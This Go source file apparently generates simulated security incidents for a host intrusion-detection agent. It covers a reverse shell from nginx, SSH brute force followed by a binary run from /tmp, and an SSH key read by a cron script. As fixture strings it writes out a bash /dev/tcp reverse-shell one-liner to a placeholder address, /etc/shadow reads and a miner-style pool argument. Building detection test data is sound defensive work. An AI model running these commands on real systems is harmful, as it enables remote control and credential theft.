package main

import (
	"fmt"
	"time"

	"github.com/google/uuid"

	"github.com/vigil-sensor/vigil/agent/correlate"
	"github.com/vigil-sensor/vigil/agent/event"
	"github.com/vigil-sensor/vigil/agent/incident"
	"github.com/vigil-sensor/vigil/agent/proctree"
	vigilv1 "github.com/vigil-sensor/vigil/proto/vigil/v1"
)

// stories builds the incidents of one simulated host with the agent's own
// incident builder (package agent/incident), from signals like the ones
// its rules raise: the process, its ancestry up to pid 1, the timeline,
// the cause and the recommended actions are what a real agent would send.
// Three stories take turns: a reverse shell out of a web server, password
// guessing followed by a program run from /tmp in the session it opened,
// and an SSH private key read by a script.
type stories struct {
	b    *incident.Builder
	boot time.Time
	n    int
}

// newStories returns the story maker of one host.
func newStories(hostID, hostname string) *stories {
	boot := time.Now().Add(-72 * time.Hour)
	users := map[uint32]string{0: "root", 33: "www-data", 1000: "deploy"}
	return &stories{
		boot: boot,
		b: &incident.Builder{
			HostID: hostID, Hostname: hostname, BootTime: boot,
			UserName:  func(uid uint32) string { return users[uid] },
			Listening: func(pid uint32, _ uint64) bool { return pid%7 == 0 },
		},
	}
}

// next returns a new incident (revision 1, a fresh UUIDv7 id) whose
// signals happened just before now.
func (s *stories) next() (*vigilv1.Incident, error) {
	s.n++
	now := time.Now()
	pid := uint32(10_000 + s.n%50_000*3)
	var sigs []correlate.Signal
	switch s.n % 3 {
	case 0:
		sigs = s.webShell(now, pid)
	case 1:
		sigs = s.sshGuessThenTmp(now, pid)
	default:
		sigs = s.keyRead(now, pid)
	}
	for i := range sigs {
		sigs[i].Source = correlate.SourceRule
		sigs[i].Score = correlate.SeverityScore(sigs[i].Severity)
	}
	id, err := uuid.NewV7()
	if err != nil {
		return nil, err
	}
	return s.b.Build(correlate.Group{ID: id.String(), Revision: 1, Signals: sigs})
}

// since returns the start time d before now, in ns since boot.
func (s *stories) since(now time.Time, d time.Duration) uint64 {
	return uint64(now.Add(-d).Sub(s.boot))
}

// entry is a process cache entry outside any login session.
func entry(pid, ppid, uid uint32, start uint64, comm, exe, cwd string, args ...string) proctree.Entry {
	return proctree.Entry{
		PID: pid, PPID: ppid, StartTime: start, UID: uid, GID: uid, LoginUID: event.NoLoginUID,
		SessionID: event.NoSessionID, Comm: comm, Exe: exe, Args: args, Cwd: cwd, CgroupID: 4242,
	}
}

func attack(tacticID, tactic, techniqueID, technique string) *vigilv1.Attack {
	return &vigilv1.Attack{TacticId: tacticID, Tactic: tactic, TechniqueId: techniqueID, Technique: technique}
}

// webShell: nginx's worker starts sh -c, which runs bash connected back
// to an outside address and then reads /etc/shadow.
func (s *stories) webShell(now time.Time, pid uint32) []correlate.Signal {
	systemd := entry(1, 0, 0, 0, "systemd", "/usr/lib/systemd/systemd", "/", "/sbin/init")
	master := entry(812, 1, 0, s.since(now, 70*time.Hour), "nginx", "/usr/sbin/nginx", "/", "nginx: master process /usr/sbin/nginx -g daemon off;")
	worker := entry(pid-2, 812, 33, s.since(now, 3*time.Hour), "nginx", "/usr/sbin/nginx", "/", "nginx: worker process")
	sh := entry(pid-1, pid-2, 33, s.since(now, 2*time.Second), "sh", "/usr/bin/dash", "/var/www/html", "sh", "-c", "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'")
	bash := entry(pid, pid-1, 33, s.since(now, 1900*time.Millisecond), "bash", "/usr/bin/bash", "/var/www/html", "bash", "-i")
	shAnc := []proctree.Entry{worker, master, systemd}
	bashAnc := []proctree.Entry{sh, worker, master, systemd}
	exec := attack("TA0002", "Execution", "T1059.004", "Command and Scripting Interpreter: Unix Shell")
	return []correlate.Signal{
		{
			Time: now.Add(-2 * time.Second), RuleID: "shell-from-network-service", Title: "Shell spawned by a network-facing service",
			Severity: vigilv1.Severity_SEVERITY_HIGH, Attack: exec, Response: correlate.ResponseFreeze,
			Reason: "nginx (a network service) started /usr/bin/dash", Process: &sh, Ancestors: shAnc, Object: "/usr/bin/dash",
		},
		{
			Time: now.Add(-1900 * time.Millisecond), RuleID: "reverse-shell", Title: "Reverse shell command line",
			Severity: vigilv1.Severity_SEVERITY_CRITICAL, Attack: exec, Response: correlate.ResponseKill,
			Reason: "bash redirects its standard streams to /dev/tcp/203.0.113.7/4444", Process: &bash, Ancestors: bashAnc,
			RemoteAddr: "203.0.113.7",
		},
		{
			Time: now.Add(-time.Second), RuleID: "shadow-file-read", Title: "Password hash file read",
			Severity: vigilv1.Severity_SEVERITY_HIGH,
			Attack:   attack("TA0006", "Credential Access", "T1003.008", "OS Credential Dumping: /etc/passwd and /etc/shadow"),
			Reason:   "bash read /etc/shadow", Process: &bash, Ancestors: bashAnc, File: "/etc/shadow", FileOp: correlate.FileRead,
		},
	}
}

// sshGuessThenTmp: twenty failed logins from one address, a successful
// one, and a program run from /tmp in the session it opened.
func (s *stories) sshGuessThenTmp(now time.Time, pid uint32) []correlate.Signal {
	session := uint32(pid / 3)
	login := &vigilv1.Login{SessionId: session, Service: "sshd", User: "deploy", RemoteHost: "198.51.100.23", Pid: pid - 3}
	systemd := entry(1, 0, 0, 0, "systemd", "/usr/lib/systemd/systemd", "/", "/sbin/init")
	sshd := entry(655, 1, 0, s.since(now, 71*time.Hour), "sshd", "/usr/sbin/sshd", "/", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")
	priv := entry(pid-3, 655, 0, s.since(now, 40*time.Second), "sshd", "/usr/sbin/sshd", "/", "sshd: deploy [priv]")
	user := entry(pid-2, pid-3, 1000, s.since(now, 39*time.Second), "sshd", "/usr/sbin/sshd", "/", "sshd: deploy@pts/0")
	shell := entry(pid-1, pid-2, 1000, s.since(now, 39*time.Second), "bash", "/usr/bin/bash", "/home/deploy", "-bash")
	tmp := entry(pid, pid-1, 1000, s.since(now, time.Second), "kworkerds", "/tmp/.x/kworkerds", "/tmp/.x", "./kworkerds", "-o", "pool.example:3333")
	for _, e := range []*proctree.Entry{&user, &shell, &tmp} {
		e.LoginUID, e.SessionID = 1000, session
	}
	return []correlate.Signal{
		{
			Time: now.Add(-45 * time.Second), RuleID: "brute-force", Title: "Password guessing from one source",
			Severity: vigilv1.Severity_SEVERITY_HIGH, Response: correlate.ResponseBlockSource,
			Attack: attack("TA0006", "Credential Access", "T1110.001", "Brute Force: Password Guessing"),
			Reason: "20 failed sshd logins from 198.51.100.23 within 30s", RemoteHost: "198.51.100.23",
			User: "deploy", Service: "sshd", FailedLogins: 20, Span: 30 * time.Second, Repeats: 19,
		},
		{
			Time: now.Add(-time.Second), RuleID: "exec-from-tmp", Title: "Program executed from a world-writable temporary directory",
			Severity: vigilv1.Severity_SEVERITY_MEDIUM, Response: correlate.ResponseQuarantine,
			Attack: attack("TA0002", "Execution", "T1204.002", "User Execution: Malicious File"),
			Reason: "/tmp/.x/kworkerds was executed from /tmp", Process: &tmp,
			Ancestors: []proctree.Entry{shell, user, priv, sshd, systemd}, Login: login, File: "/tmp/.x/kworkerds",
		},
	}
}

// keyRead: a Python script run by cron reads a user's SSH private key.
func (s *stories) keyRead(now time.Time, pid uint32) []correlate.Signal {
	systemd := entry(1, 0, 0, 0, "systemd", "/usr/lib/systemd/systemd", "/", "/sbin/init")
	cron := entry(702, 1, 0, s.since(now, 71*time.Hour), "cron", "/usr/sbin/cron", "/", "/usr/sbin/cron", "-f", "-P")
	child := entry(pid-1, 702, 0, s.since(now, 3*time.Second), "cron", "/usr/sbin/cron", "/", "/usr/sbin/CRON", "-f", "-P")
	py := entry(pid, pid-1, 1000, s.since(now, 3*time.Second), "python3", "/usr/bin/python3.12", "/home/deploy",
		"python3", "/home/deploy/.cache/update.py", "--quiet")
	return []correlate.Signal{{
		Time: now.Add(-2 * time.Second), RuleID: "private-key-read", Title: "SSH private key read by a program that is not ssh",
		Severity: vigilv1.Severity_SEVERITY_HIGH,
		Attack:   attack("TA0006", "Credential Access", "T1552.004", "Unsecured Credentials: Private Keys"),
		Reason:   fmt.Sprintf("python3 (pid %d) read /home/deploy/.ssh/id_ed25519", pid),
		Process:  &py, Ancestors: []proctree.Entry{child, cron, systemd},
		File: "/home/deploy/.ssh/id_ed25519", FileOp: correlate.FileRead,
	}}
}
